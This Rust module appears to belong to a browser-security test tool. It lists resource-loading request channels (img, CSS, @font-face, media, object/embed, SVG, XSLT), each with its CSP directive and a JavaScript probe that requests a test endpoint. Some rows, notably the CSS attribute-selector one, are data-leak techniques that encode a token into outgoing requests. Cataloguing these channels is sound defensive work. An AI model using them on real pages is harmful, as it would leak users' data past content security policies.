//! Images, styles, fonts, media, SVG: what a document loads because it looks like something.

use crate::channel::{Channel, Group};

const IMAGE: &str = "CSP `img-src`";
const STYLE: &str = "CSP `style-src`";
const FONT: &str = "CSP `font-src`";
const MEDIA: &str = "CSP `media-src`";
const OBJECT: &str = "CSP `object-src`";

const fn row(id: &'static str, what: &'static str, by: &'static str, tries: &'static str) -> Channel {
    Channel::new(Group::Requests, id, what, by, tries).needs(&["document"])
}

pub(super) const ROWS: &[Channel] = &[
    row("img", "`<img>`", IMAGE, r#"await add("img", { src: to.http + ".png" })"#),
    row("img-srcset", "`<img srcset>`", IMAGE, r#"await add("img", { srcset: to.http + ".png 1x" })"#),
    row(
        "picture",
        "`<picture>`",
        IMAGE,
        r#"put(`<picture><source srcset="${to.http}.png"><img></picture>`); await wait(800)"#,
    ),
    row(
        "input-image",
        "`<input type=image>`",
        IMAGE,
        r#"await add("input", { type: "image", src: to.http + ".png" })"#,
    ),
    row(
        "body-background",
        "`<body background>`",
        IMAGE,
        r#"document.body.setAttribute("background", to.http + ".png"); await wait(800)"#,
    ),
    row(
        "css-background",
        "CSS `background: url()`",
        IMAGE,
        r#"style(`p { background: url("${to.http}.png") }`); put("<p>x</p>"); await wait(800)"#,
    ),
    row(
        "css-image-set",
        "CSS `image-set()`",
        IMAGE,
        r#"style(`i { background: image-set("${to.http}.png" 1x) }`); put("<i>x</i>"); await wait(800)"#,
    ),
    row(
        "css-content",
        "CSS `content: url()`",
        IMAGE,
        r#"style(`b::before { content: url("${to.http}.png") }`); put("<b>x</b>"); await wait(800)"#,
    ),
    row(
        "css-selector",
        "CSS that reads an attribute and tells it by an image",
        IMAGE,
        r#"style(`input[value^="${to.token}"] { background: url("${to.http}.png") }`); put(`<input value="${to.token}">`); await wait(800)"#,
    ),
    row("css-import", "CSS `@import`", STYLE, r#"style(`@import url("${to.http}.css");`); await wait(800)"#),
    row(
        "css-font",
        "CSS `@font-face`",
        FONT,
        r#"style(`@font-face { font-family: "${to.token}"; src: url("${to.http}.woff2") }`); put(`<u style="font-family: ${to.token}">x</u>`); await wait(800)"#,
    ),
    Channel::new(
        Group::Requests,
        "font-face",
        "`FontFace`",
        FONT,
        r#"await new FontFace(to.token, `url("${to.http}.woff2")`).load()"#,
    )
    .needs(&["FontFace"]),
    row(
        "stylesheet",
        "`<link rel=stylesheet>`",
        STYLE,
        r#"await add("link", { rel: "stylesheet", href: to.http + ".css" })"#,
    ),
    row(
        "video",
        "`<video>`",
        MEDIA,
        r#"const v = put("<video preload=auto muted></video>"); v.src = to.http + ".mp4"; v.load(); await wait(800)"#,
    ),
    row(
        "video-poster",
        "`<video poster>`",
        IMAGE,
        r#"put(`<video poster="${to.http}.png"></video>`); await wait(800)"#,
    ),
    row(
        "audio",
        "`<audio>`",
        MEDIA,
        r#"const a = new Audio(); a.preload = "auto"; a.src = to.http + ".mp3"; a.load(); await wait(800)"#,
    ),
    row(
        "track",
        "`<track>`",
        MEDIA,
        r#"const v = put(`<video crossorigin="anonymous"><track kind=captions default src="${to.http}.vtt"></video>`); v.textTracks[0].mode = "showing"; await wait(800)"#,
    ),
    row("object", "`<object>`", OBJECT, r#"put(`<object data="${to.http}.html"></object>`); await wait(800)"#),
    row("embed", "`<embed>`", OBJECT, r#"put(`<embed src="${to.http}.html">`); await wait(800)"#),
    row(
        "svg-image",
        "SVG `<image>`",
        IMAGE,
        r#"put(`<svg width=9 height=9><image href="${to.http}.png" width=9 height=9 /></svg>`); await wait(800)"#,
    ),
    row(
        "svg-use",
        "SVG `<use>` of another document",
        "same origin only, in every engine",
        r##"put(`<svg><use href="${to.http}.svg#x" /></svg>`); await wait(800)"##,
    ),
    row(
        "svg-feimage",
        "SVG `<feImage>`",
        IMAGE,
        r##"put(`<svg width=9 height=9><filter id="f${to.token}"><feImage href="${to.http}.png" /></filter><rect width=9 height=9 filter="url(#f${to.token})" /></svg>`); await wait(800)"##,
    ),
    row(
        "xslt",
        "an XML document's style sheet",
        STYLE,
        r#"put(`<iframe src="${URL.createObjectURL(new Blob([`<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${to.http}.css"?><x/>`], { type: "text/xml" }))}"></iframe>`); await wait(800)"#,
    ),
];
